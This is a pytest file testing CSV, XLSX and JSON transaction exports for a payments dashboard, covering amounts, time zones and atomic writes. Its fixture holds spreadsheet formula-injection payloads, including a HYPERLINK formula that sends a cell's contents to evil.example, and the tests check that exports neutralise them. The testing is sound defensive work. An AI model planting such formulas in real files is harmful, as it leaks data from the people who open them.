"""CSV, XLSX and JSON exports from a real store (SQLite and PostgreSQL)."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from dashboard.export import (
    COLUMNS,
    FORMATS,
    check_format,
    export_bytes,
    export_filename,
    export_to_path,
    safe_text,
    write_csv,
    write_json,
    write_xlsx,
)
from dashboard.khalti import Transaction
from dashboard.nptime import NPT
from dashboard.store import Store, TxFilter

NOVEMBER = TxFilter(first_day=date(2026, 11, 1), last_day=date(2026, 11, 30))
HOSTILE = {
    "f-eq": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "f-plus": "+1+1",
    "f-minus": "-2+3",
    "f-at": "@SUM(A1:A2)",
    "f-tab": "\t=1+1",
    "f-cr": "\r=1+1",
}


@pytest.fixture
def filled(store: Store, make_tx: Callable[..., Transaction]) -> Store:
    txs = [
        # Nepal-day boundaries of November 2026 (NPT is UTC+05:45).
        make_tx("before", created_on=datetime(2026, 10, 31, 23, 59, 59, 999999, tzinfo=NPT)),
        make_tx(
            "first", created_on=datetime(2026, 11, 1, 0, 0, tzinfo=NPT), amount=1, fee_amount=0
        ),
        make_tx(
            "paisa",
            created_on=datetime(2026, 11, 2, 10, 0, tzinfo=NPT),
            amount=1999,
            fee_amount=10,
            state="Refunded",
            type_name="Ebanking payment",
            ebanker="Nabil Bank",
        ),
        make_tx(
            "big",
            created_on=datetime(2026, 11, 3, 9, 30, tzinfo=NPT),
            amount=123_456_789,
            fee_amount=3_703_704,
            customer_name="राम बहादुर",
        ),
        make_tx("last", created_on=datetime(2026, 11, 30, 23, 59, 59, 999999, tzinfo=NPT)),
        make_tx("after", created_on=datetime(2026, 12, 1, 0, 0, tzinfo=NPT)),
    ]
    for number, (idx, name) in enumerate(HOSTILE.items()):
        txs.append(
            make_tx(
                idx,
                created_on=datetime(2026, 11, 10, 12, number, tzinfo=NPT),
                customer_name=name,
                amount=10_00,
                fee_amount=25,
            )
        )
    store.upsert_transactions("test", txs, datetime(2026, 12, 2, tzinfo=UTC))
    return store


def csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def ooxml_text(value: str) -> str:
    """Undo OOXML's _xHHHH_ escape (a carriage return is stored as _x000D_), as Excel does."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def by_idx(rows: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {row["idx"]: row for row in rows}


# -- CSV ----------------------------------------------------------------------------------


def test_csv_columns_money_times_and_nepal_day_bounds(filled: Store) -> None:
    out = io.BytesIO()
    count = write_csv(filled, "test", NOVEMBER, out)
    data = out.getvalue()
    header = data.decode("utf-8-sig").splitlines()[0]
    assert header == ",".join(COLUMNS)
    rows = csv_rows(data)
    assert count == len(rows) == 4 + len(HOSTILE)
    found = by_idx(rows)
    assert "before" not in found and "after" not in found
    assert {"first", "last"} <= set(found)
    assert [row["idx"] for row in rows][:2] == ["first", "paisa"]  # oldest first
    assert found["first"]["created_on"] == "2026-11-01T00:00:00.000000+05:45"
    assert found["last"]["created_on"] == "2026-11-30T23:59:59.999999+05:45"
    assert (found["first"]["amount_npr"], found["first"]["fee_npr"]) == ("0.01", "0.00")
    assert (found["paisa"]["amount_npr"], found["paisa"]["fee_npr"]) == ("19.99", "0.10")
    assert (found["big"]["amount_npr"], found["big"]["fee_npr"]) == ("1234567.89", "37037.04")
    paisa = found["paisa"]
    assert (paisa["state"], paisa["type"], paisa["refunded"]) == (
        "Refunded",
        "Ebanking payment",
        "true",
    )
    assert paisa["ebanker"] == "Nabil Bank" and found["first"]["ebanker"] == ""
    assert found["first"]["refunded"] == "false"
    assert found["big"]["customer_name"] == "राम बहादुर"
    assert found["first"]["customer_mobile"] == "9800000001"


def test_csv_neutralises_formulas_but_not_numbers(filled: Store) -> None:
    out = io.BytesIO()
    write_csv(filled, "test", NOVEMBER, out)
    found = by_idx(csv_rows(out.getvalue()))
    for idx, name in HOSTILE.items():
        assert found[idx]["customer_name"] == "'" + name
    assert found["first"]["customer_name"] == "Test User"
    for row in found.values():
        for column in ("amount_npr", "fee_npr"):
            assert re.fullmatch(r"\d+\.\d\d", row[column])


def test_csv_to_a_text_stream_has_no_bom(filled: Store) -> None:
    out = io.StringIO(newline="")
    write_csv(filled, "test", TxFilter(states=("Refunded",)), out)
    lines = out.getvalue().split("\r\n")
    assert lines[0] == ",".join(COLUMNS)
    assert [line.split(",")[0] for line in lines[1:] if line] == ["paisa"]


# -- XLSX ---------------------------------------------------------------------------------


def test_xlsx_reads_back_with_numbers_text_and_no_formulas(filled: Store) -> None:
    out = io.BytesIO()
    count = write_xlsx(filled, "test", NOVEMBER, out)
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    assert header == list(COLUMNS)
    rows = {
        row[0].value: {name: cell for name, cell in zip(COLUMNS, row, strict=True)}
        for row in sheet.iter_rows(min_row=2)
    }
    assert len(rows) == count == 4 + len(HOSTILE)
    for row in rows.values():
        assert all(cell.data_type != "f" for cell in row.values()), "a formula was written"
        for column in ("amount_npr", "fee_npr"):
            assert row[column].data_type == "n" and row[column].number_format == "0.00"
        assert row["refunded"].data_type == "b"
    assert rows["paisa"]["amount_npr"].value == pytest.approx(19.99)
    assert rows["paisa"]["refunded"].value is True
    assert rows["first"]["created_on"].value == "2026-11-01T00:00:00.000000+05:45"
    for idx, name in HOSTILE.items():
        cell = rows[idx]["customer_name"]
        assert cell.data_type == "s" and ooxml_text(cell.value) == "'" + name
    assert rows["big"]["customer_name"].value == "राम बहादुर"
    assert rows["first"]["ebanker"].value is None


def test_xlsx_stores_amounts_digit_for_digit(filled: Store) -> None:
    out = io.BytesIO()
    write_xlsx(filled, "test", NOVEMBER, out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    values = set(re.findall(r"<v>([^<]*)</v>", xml))
    assert {"0.01", "19.99", "0.10", "1234567.89", "37037.04"} <= values
    assert "<f>" not in xml


# -- JSON ---------------------------------------------------------------------------------


def test_json_is_an_array_with_exact_amounts_and_raw_text(filled: Store) -> None:
    out = io.BytesIO()
    count = write_json(filled, "test", NOVEMBER, out)
    rows = json.loads(out.getvalue().decode("utf-8"), parse_float=Decimal)
    assert isinstance(rows, list) and len(rows) == count == 4 + len(HOSTILE)
    assert all(list(row) == list(COLUMNS) for row in rows)
    found = by_idx(rows)
    assert found["paisa"]["amount_npr"] == Decimal("19.99")
    assert found["first"]["amount_npr"] == Decimal("0.01")
    assert found["big"]["fee_npr"] == Decimal("37037.04")
    assert found["paisa"]["refunded"] is True and found["first"]["ebanker"] is None
    # JSON is not a spreadsheet: names are exported as they are.
    assert found["f-eq"]["customer_name"] == HOSTILE["f-eq"]
    assert found["big"]["customer_name"] == "राम बहादुर"


def test_json_of_nothing_is_an_empty_array(store: Store) -> None:
    out = io.BytesIO()
    assert write_json(store, "test", NOVEMBER, out) == 0
    assert json.loads(out.getvalue()) == []


# -- filters, modes, files ----------------------------------------------------------------


def test_filters_and_modes_apply(filled: Store, make_tx: Callable[..., Transaction]) -> None:
    filled.upsert_transactions(
        "live",
        [make_tx("live-one", created_on=datetime(2026, 11, 5, tzinfo=NPT))],
        datetime(2026, 12, 2, tzinfo=UTC),
    )
    ebanking = TxFilter(
        first_day=date(2026, 11, 1), last_day=date(2026, 11, 30), types=("Ebanking payment",)
    )
    assert [r["idx"] for r in csv_rows(export_bytes(filled, "test", ebanking, "csv"))] == ["paisa"]
    live = csv_rows(export_bytes(filled, "live", NOVEMBER, "csv"))
    assert [r["idx"] for r in live] == ["live-one"]
    assert "live-one" not in by_idx(csv_rows(export_bytes(filled, "test", NOVEMBER, "csv")))


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_bytes_in_every_format(filled: Store, fmt: str) -> None:
    data = export_bytes(filled, "test", NOVEMBER, fmt)
    if fmt == "csv":
        assert len(csv_rows(data)) == 10
    elif fmt == "json":
        assert len(json.loads(data)) == 10
    else:
        assert openpyxl.load_workbook(io.BytesIO(data)).active.max_row == 11


def test_export_filename() -> None:
    assert (
        export_filename("test", date(2026, 11, 1), date(2026, 11, 30), "csv")
        == "khalti-test-2026-11-01_to_2026-11-30.csv"
    )
    assert export_filename("live", None, None, "XLSX") == "khalti-live-start_to_latest.xlsx"
    with pytest.raises(ValueError, match="csv, xlsx or json"):
        check_format("pdf")


def test_safe_text() -> None:
    assert safe_text(None) == "" and safe_text("") == ""
    assert safe_text("Ram") == "Ram" and safe_text("a=b") == "a=b"
    assert [safe_text(v) for v in ("=1", "+1", "-1", "@a", "\t1", "\r1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\t1",
        "'\r1",
    ]


class BreaksAfterOneBatch:
    """A store whose reading fails part-way, as a lost database connection would."""

    def __init__(self, store: Store) -> None:
        self._store = store

    def __getattr__(self, name: str) -> Any:
        return getattr(self._store, name)

    def iter_transactions(self, *args: Any, **kwargs: Any) -> Iterator[list[dict[str, Any]]]:
        kwargs["batch_size"] = 2
        for batch in self._store.iter_transactions(*args, **kwargs):
            yield batch
            raise OSError("the database went away")


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_to_path_is_atomic(filled: Store, tmp_path: Path, fmt: str) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    target = folder / f"out.{fmt}"
    assert export_to_path(filled, "test", NOVEMBER, fmt, target) == 10
    good = target.read_bytes()

    with pytest.raises(OSError, match="went away"):
        export_to_path(BreaksAfterOneBatch(filled), "test", NOVEMBER, fmt, target)  # type: ignore[arg-type]

    assert target.read_bytes() == good
    assert [p.name for p in folder.iterdir()] == [target.name]
